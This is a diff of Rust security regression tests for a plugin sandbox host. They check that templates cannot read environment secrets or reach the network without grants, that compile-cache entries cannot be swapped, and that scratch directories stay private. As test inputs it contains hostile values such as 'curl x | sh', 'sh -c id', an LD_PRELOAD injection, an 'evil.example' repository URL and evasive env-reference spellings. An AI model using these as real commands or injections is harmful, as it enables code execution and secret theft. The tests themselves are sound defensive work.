@@ -217,7 +217,12 @@ fn the_delivery_tree_is_read_only_and_scratch_is_not() {
         case(&host, &[("case", "write"), ("arg", "/scratch/note.txt")]).unwrap(),
         "wrote /scratch/note.txt"
     );
-    assert!(w.scratch.join("hostile/note.txt").exists());
+    assert!(
+        host.scratch_dir("hostile")
+            .unwrap()
+            .join("note.txt")
+            .exists()
+    );
     still_fine(&w, &host, &before);
 }
 
@@ -697,4 +702,369 @@ fn a_compile_cache_entry_tampered_after_it_was_vouched_for_is_still_rejected() {
         "{:?}",
         w.audit_lines()
     );
+}
+
+/// Finding: a plugin without any grant read a token through the `template` capability,
+/// because the capability's `env:` scan and the engine disagreed on what a reference is.
+/// Now the engine's parser decides for both; every spelling the engine reads as `env:` is
+/// checked, and the network functions need an `http` grant.
+#[test]
+fn template_cannot_read_env_or_reach_the_network_without_a_grant() {
+    let w = World::new();
+    let value = "tmpl-t0ken-9191";
+    // SAFETY: a name only this test uses.
+    unsafe { std::env::set_var("STASIS_TEST_TMPL_TOKEN", value) };
+    let server = routes_server();
+    let mut ctx = template_context();
+    ctx.github.api_url = server.url("");
+    ctx.github.token = Some(stasis::template::Secret::new(value));
+    let mut options = w.options();
+    options.template = Some(std::sync::Arc::new(stasis::plugins::ContextRenderer(ctx)));
+    // No grant at all beyond what every plugin gets.
+    let mut h = grant("hostile", PluginKind::DeployTarget, &guests().hostile);
+    h.allow_commands = vec![CommandRule::parse("echo hello *").unwrap()];
+    h.allow_hosts = vec![HostPattern::parse("http://127.0.0.1:1").unwrap()];
+    let host = PluginHost::load_with(
+        vec![h],
+        &Default::default(),
+        &shared_cache(),
+        &w.delivery,
+        &w.scratch,
+        options,
+    )
+    .unwrap_or_else(|e| panic!("{e:?}"));
+    let before = w.snapshot();
+    for spelling in [
+        "{{ env:STASIS_TEST_TMPL_TOKEN }}",
+        "{{ env: STASIS_TEST_TMPL_TOKEN }}",
+        "{{env:\tSTASIS_TEST_TMPL_TOKEN}}",
+        "{{ e nv:STASIS_TEST_TMPL_TOKEN }}",
+        "{{ env:STASIS_TEST_TMPL _TOKEN }}",
+        "x {{ meta.name }} {{ env :STASIS_TEST_TMPL_TOKEN }}",
+    ] {
+        let e = case(&host, &[("case", "template"), ("arg", spelling)]).unwrap_err();
+        let s = e.to_string();
+        assert!(
+            s.contains("denied: env var STASIS_TEST_TMPL_TOKEN is not in allow_env"),
+            "{spelling}: {s}"
+        );
+        assert!(!s.contains(value), "{spelling}: {s}");
+    }
+    // The same parser still renders what is allowed.
+    assert_eq!(
+        case(&host, &[("case", "template"), ("arg", "n={{ meta.name }}")]).unwrap(),
+        "n=demo"
+    );
+    // Network functions: no http grant for the API, so no request is made.
+    for call in [
+        "{{ func:get_github_release_notes(o/r, v1, v0) }}",
+        "{{ func:get_github_release_notes_auto() }}",
+    ] {
+        let e = case(&host, &[("case", "template"), ("arg", call)]).unwrap_err();
+        assert!(
+            e.to_string()
+                .contains("denied: func:get_github_release_notes"),
+            "{call}: {e}"
+        );
+    }
+    // A function that writes into a test checkout: never.
+    let e = case(
+        &host,
+        &[("case", "template"), ("arg", "{{ func:tox_run(a, b) }}")],
+    )
+    .unwrap_err();
+    assert!(e.to_string().contains("denied: func:tox_run"), "{e}");
+    assert!(server.seen().is_empty(), "a template reached the network");
+    let audits = w.audit_lines();
+    assert!(
+        audits
+            .iter()
+            .any(|l| l.contains("denied template") && l.contains("(grant from test.ini:1)")),
+        "{audits:?}"
+    );
+    assert!(!w.log_text().contains(value), "the token reached the log");
+    still_fine(&w, &host, &before);
+}
+
+/// With an http grant for the API and the token named in `secrets`, the same call goes out.
+#[test]
+fn template_network_functions_follow_the_http_grant() {
+    let w = World::new();
+    let server = routes_server();
+    let mut ctx = template_context();
+    ctx.github.api_url = server.url("");
+    ctx.github.token = Some(stasis::template::Secret::new("tok-5151"));
+    let mut options = w.options();
+    options.template = Some(std::sync::Arc::new(stasis::plugins::ContextRenderer(ctx)));
+    let load = |secrets: Vec<String>| {
+        let mut h = grant("hostile", PluginKind::DeployTarget, &guests().hostile);
+        h.allow_commands = vec![CommandRule::parse("echo hello *").unwrap()];
+        h.allow_hosts =
+            vec![HostPattern::parse(&format!("http://127.0.0.1:{}", server.port)).unwrap()];
+        h.secrets = secrets;
+        PluginHost::load_with(
+            vec![h],
+            &Default::default(),
+            &shared_cache(),
+            &w.delivery,
+            &w.scratch,
+            options.clone(),
+        )
+        .unwrap_or_else(|e| panic!("{e:?}"))
+    };
+    let call = "{{ func:get_github_release_notes(o/r, v1, v0) }}";
+    let e = case(&load(vec![]), &[("case", "template"), ("arg", call)]).unwrap_err();
+    assert!(e.to_string().contains("GitHub token"), "{e}");
+    assert!(server.seen().is_empty());
+    // Granted: the request is made (the test server answers 404, so the function fails).
+    let r = case(
+        &load(vec!["STASIS_GH_TOKEN".into()]),
+        &[("case", "template"), ("arg", call)],
+    );
+    assert!(!server.seen().is_empty(), "{r:?}");
+}
+
+/// Finding: a compiled entry of one component was made to run in place of another, pinned
+/// component, because the entry's MAC did not bind the component's sha256. Now it binds the
+/// sha256, the engine hash and the entry's name, and entries are opened without following
+/// symlinks: a copied, renamed or linked entry is rejected, logged and recompiled.
+#[test]
+fn a_compile_cache_entry_cannot_stand_in_for_another_component() {
+    use sha2::Digest;
+    let w = World::new();
+    let cache = w.tmp.path().join("cache");
+    let sha =
+        |p: &std::path::Path| format!("{:x}", sha2::Sha256::digest(std::fs::read(p).unwrap()));
+    let (rule_sha, fmt_sha) = (sha(&guests().rule), sha(&guests().formatter));
+    let load = || {
+        let mut r = grant("rule", PluginKind::MissionRule, &guests().rule);
+        r.sha256 = Some(rule_sha.clone());
+        let mut f = grant("fmt", PluginKind::ReleaseFormatter, &guests().formatter);
+        f.sha256 = Some(fmt_sha.clone());
+        PluginHost::load_with(
+            vec![r, f],
+            &Default::default(),
+            &cache,
+            &w.delivery,
+            &w.scratch,
+            w.options(),
+        )
+        .unwrap_or_else(|e| panic!("{e:?}"))
+    };
+    drop(load());
+    let entry_of = |sha: &str| {
+        std::fs::read_dir(&cache)
+            .unwrap()
+            .map(|e| e.unwrap().path())
+            .find(|p| {
+                let n = p.file_name().unwrap().to_string_lossy().into_owned();
+                n.starts_with(sha) && n.ends_with(".cwasm")
+            })
+            .expect("a cache entry")
+    };
+    let (rule_entry, fmt_entry) = (entry_of(&rule_sha), entry_of(&fmt_sha));
+    // Copied over: a valid entry of our own cache, under the other component's name.
+    std::fs::copy(&rule_entry, &fmt_entry).unwrap();
+    let n = w.audit_lines().len();
+    let host = load();
+    assert_eq!(host.format('X', &delivery()).unwrap(), "x-demo-1.0");
+    assert!(
+        w.audit_lines()[n..]
+            .iter()
+            .any(|l| l.contains("failed authentication") && l.contains("rule: cache integrity")),
+        "{:?}",
+        w.audit_lines()
+    );
+    drop(host);
+    // Linked over: the entry is a symlink to the other component's entry.
+    std::fs::remove_file(&fmt_entry).unwrap();
+    std::os::unix::fs::symlink(&rule_entry, &fmt_entry).unwrap();
+    let n = w.audit_lines().len();
+    let host = load();
+    assert_eq!(host.format('X', &delivery()).unwrap(), "x-demo-1.0");
+    assert!(
+        w.audit_lines()[n..]
+            .iter()
+            .any(|l| l.contains("rule: cache integrity")),
+        "{:?}",
+        w.audit_lines()
+    );
+    assert!(!std::fs::symlink_metadata(&fmt_entry).unwrap().is_symlink());
+}
+
+/// A compile cache dir other users can write to is refused, naming the path.
+#[test]
+fn a_shared_compile_cache_dir_is_refused() {
+    use std::os::unix::fs::PermissionsExt;
+    let w = World::new();
+    let cache = w.tmp.path().join("shared-cache");
+    std::fs::create_dir(&cache).unwrap();
+    std::fs::set_permissions(&cache, std::fs::Permissions::from_mode(0o1777)).unwrap();
+    let errs = PluginHost::load_with(
+        vec![grant("rule", PluginKind::MissionRule, &guests().rule)],
+        &Default::default(),
+        &cache,
+        &w.delivery,
+        &w.scratch,
+        w.options(),
+    )
+    .err()
+    .expect("refused");
+    let e = errs[0].to_string();
+    assert!(
+        e.contains(&cache.display().to_string()) && e.contains("refused"),
+        "{e}"
+    );
+}
+
+/// Finding: `transform-tests` could return new scripts that the tests stage then runs with
+/// bash — shell access for a rule granted only `log` and `template`. Without
+/// `transform_scripts = true` a rule may only select, reorder, disable and retime blocks.
+#[test]
+fn transform_tests_cannot_change_commands_without_transform_scripts() {
+    let w = World::new();
+    // The test rule appends `-x` to every script.
+    let host = w
+        .load(vec![
+            grant("rules", PluginKind::MissionRule, &guests().rule),
+            grant("fmt", PluginKind::ReleaseFormatter, &guests().formatter),
+        ])
+        .unwrap_or_else(|e| panic!("{e:?}"));
+    let tests = vec![stasis::plugins::TestBlockInfo {
+        name: "numpy".into(),
+        script: "pytest".into(),
+        ..Default::default()
+    }];
+    let e = host
+        .transform_tests(&delivery(), tests.clone())
+        .unwrap_err();
+    let s = e.to_string();
+    assert!(
+        s.contains("\"rules\"") && s.contains("rule: transform_scripts") && s.contains("`script`"),
+        "{s}"
+    );
+    assert!(
+        w.audit_lines()
+            .iter()
+            .any(|l| l.contains("denied transform-tests")),
+        "{:?}",
+        w.audit_lines()
+    );
+    // The host survives and the next plugin still runs.
+    assert_eq!(host.format('X', &delivery()).unwrap(), "x-demo-1.0");
+    // Granted: the same result is accepted.
+    let mut g = grant("rules", PluginKind::MissionRule, &guests().rule);
+    g.transform_scripts = true;
+    let host = w.load(vec![g]).unwrap_or_else(|e| panic!("{e:?}"));
+    assert_eq!(
+        host.transform_tests(&delivery(), tests).unwrap()[0].script,
+        "pytest -x"
+    );
+}
+
+#[test]
+fn what_a_transform_may_change_without_the_key() {
+    use stasis::plugins::TestBlockInfo;
+    let a = TestBlockInfo {
+        name: "a".into(),
+        script: "pytest".into(),
+        ..Default::default()
+    };
+    let mut retimed = a.clone();
+    retimed.disable = true;
+    retimed.parallel = !a.parallel;
+    retimed.timeout = Some(Duration::from_secs(5));
+    assert_eq!(a.changed_command_field(&retimed), None);
+    for (field, change) in [
+        (
+            "script",
+            (|t: &mut TestBlockInfo| t.script = "sh -c id".into()) as fn(&mut TestBlockInfo),
+        ),
+        ("script_setup", |t| t.script_setup = "curl x | sh".into()),
+        ("runtime", |t| {
+            t.runtime = vec![("LD_PRELOAD".into(), "/x.so".into())]
+        }),
+        ("repository", |t| {
+            t.repository = "https://evil.example/r".into()
+        }),
+        ("version", |t| t.version = "main".into()),
+        ("build_recipe", |t| t.build_recipe = Some("r".into())),
+    ] {
+        let mut b = a.clone();
+        change(&mut b);
+        assert_eq!(a.changed_command_field(&b), Some(field));
+    }
+}
+
+/// Finding: the scratch dir sat inside the delivery tree (where a granted `git` or `pytest`
+/// would pick up planted hooks or `conftest.py`), every plugin could read every other's, and
+/// names like `..` were accepted. Now each plugin's scratch is private (0700), outside the
+/// delivery tree, invisible to other plugins, and removed with the host.
+#[test]
+fn scratch_is_private_per_plugin_outside_the_tree_and_removed() {
+    use std::os::unix::fs::PermissionsExt;
+    let w = World::new();
+    let mut a = grant("hostile", PluginKind::DeployTarget, &guests().hostile);
+    a.allow_commands = vec![CommandRule::parse("echo hello *").unwrap()];
+    a.allow_hosts = vec![HostPattern::parse("http://127.0.0.1:1").unwrap()];
+    let mut b = a.clone();
+    b.name = "other".into();
+    let host = w.load(vec![a, b]).unwrap_or_else(|e| panic!("{e:?}"));
+    let mine = host.scratch_dir("hostile").unwrap().to_path_buf();
+    let theirs = host.scratch_dir("other").unwrap().to_path_buf();
+    assert!(!mine.starts_with(&w.delivery) && !theirs.starts_with(&w.delivery));
+    for d in [&mine, &theirs, &host.scratch_root().to_path_buf()] {
+        let mode = std::fs::metadata(d).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o700, "{}", d.display());
+    }
+    // The other plugin writes into its scratch; this one sees only its own.
+    host.deploy(
+        "other",
+        &section(&[("case", "write"), ("arg", "/scratch/planted.py")]),
+        &delivery(),
+    )
+    .unwrap();
+    assert!(theirs.join("planted.py").exists());
+    assert_eq!(
+        case(&host, &[("case", "list"), ("arg", "/scratch")]).unwrap(),
+        ""
+    );
+    let e = case(
+        &host,
+        &[
+            ("case", "read"),
+            ("arg", &theirs.join("planted.py").display().to_string()),
+        ],
+    )
+    .unwrap_err();
+    assert!(e.to_string().contains("\"hostile\""), "{e}");
+    let root = host.scratch_root().to_path_buf();
+    drop(host);
+    assert!(!root.exists(), "scratch dirs outlived the host");
+    // Names that are not plain words are refused before anything is created.
+    for bad in ["..", ".", "a/b", "-x"] {
+        let mut g = grant("hostile", PluginKind::MissionRule, &guests().rule);
+        g.name = bad.into();
+        let errs = w.load(vec![g]).err().expect("refused");
+        assert!(
+            errs[0].to_string().contains("plugin name"),
+            "{bad}: {}",
+            errs[0]
+        );
+    }
+    // A scratch root other users can write to is refused.
+    let shared = w.tmp.path().join("shared-state");
+    std::fs::create_dir(&shared).unwrap();
+    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let errs = PluginHost::load_with(
+        vec![grant("rule", PluginKind::MissionRule, &guests().rule)],
+        &Default::default(),
+        &shared_cache(),
+        &w.delivery,
+        &shared,
+        w.options(),
+    )
+    .err()
+    .expect("refused");
+    assert!(errs[0].to_string().contains("refused"), "{}", errs[0]);
 }
